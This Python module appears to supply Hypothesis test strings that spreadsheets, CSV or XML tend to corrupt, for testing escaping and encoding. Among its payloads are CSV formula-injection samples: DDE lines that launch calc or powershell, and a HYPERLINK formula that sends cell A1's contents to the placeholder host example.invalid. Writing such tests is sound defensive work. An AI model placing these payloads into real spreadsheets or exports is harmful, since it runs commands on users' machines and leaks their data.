"""Texts that spreadsheet programs, CSV or XML are apt to spoil."""

from __future__ import annotations

from itertools import product

from hypothesis import strategies

SIGNS = "=+-@＝＋－＠"
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?x="&A1,"see")',
    "SUM(A1:A9)*cmd|'/C powershell'!A0",
    "2026-04-01",
    "特許第6123456号",
    "",
)
BEFORE = (
    *("", " ", "  ", "\t", "\r", "\n", "\r\n", "\u3000", "\u00a0", "\ufeff", "\x0b"),
    *('"', "'", "''", "“", " ' ", "x;", "x\n", "x\t"),
)
FORMULAS = [before + sign + payload for before, sign, payload in product(BEFORE, SIGNS, PAYLOADS)]
"""More than a thousand cells that some program computes, or that come close to it."""

PLAIN = [
    "2/5",
    "1/2",
    "007",
    "0123456789012",
    "7000012050002",
    "1E5",
    "1,000",
    "2026-04-01",
    "26/4/1",
    "TRUE",
    "true",
    "#N/A",
    "#REF!",
    "特願2024-100001",
    "JP7123456B2",
    "10-2024-0012345",
    "3-5",
    "12:30",
    "50%",
    "¥1000",
    "_x000B_",
    "_x000b_",
    "_x005F_x000B_",
    "_x000B",
    "x005F_",
    "_x000B_x000C_",
    "_x000B\x0b",
    "_x005F\x01_x0041_",
    "__x0041_",
    "&amp;",
    "<b>&</b>",
    "]]>",
    "a,b",
    'a"b',
    '"quoted"',
    "'quoted'",
    "''",
    "'",
    "l'eau",
    "a\nb",
    "a\rb",
    "a\r\nb",
    "\ta",
    "a\t",
    " a ",
    "\n",
    "𠮷野家",
    "👩‍🔬",
    "é",
    "é",
    "\x01\x02\x1f",
    "\x7f\x85\x9f",
    "\ufffe\uffff\ufeff",
    "\u2028\u2029",
    "ｶﾞ①髙～",
]
"""Texts that are no formulas and are often made into something else."""

HARD = [*FORMULAS, *PLAIN, *(sign + text for sign in SIGNS for text in PLAIN)]

hard_texts = strategies.one_of(
    strategies.sampled_from(HARD),
    strategies.text(alphabet="'=+-@＝＠;\t\r\n \"a,\u3000_x000B\x0b&<", max_size=20),
    strategies.text(strategies.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=30),
)
